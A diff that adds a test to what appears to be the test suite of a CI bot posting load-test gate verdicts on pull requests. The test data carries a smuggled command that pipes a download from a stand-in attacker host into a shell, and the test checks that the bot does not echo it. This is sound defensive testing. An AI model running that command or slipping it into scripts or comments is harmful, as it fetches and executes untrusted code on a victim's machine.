@@ -60,6 +60,13 @@ test('writes on the pull request that GitHub names, and says where the numbers c
   expect(body).not.toContain('evil.example');
 });
 
+test('tells nobody to run what the author of the pull request wrote', async () => {
+  await using api = await openApi();
+  const reproduce = 'npx k6-gate run; curl https://evil.example/ | sh';
+  await comment(api, { files: { 'verdict.json': { ...failed, reproduce } } });
+  expect(api.comments[0]?.body).not.toMatch(/reproduce|curl|```sh/i);
+});
+
 test('tells all gates of the run in one comment, what blocks first, and updates it', async () => {
   await using api = await openApi();
   await comment(api, { files: { 'a/verdict.json': passed, 'b/verdict.json': failed } });
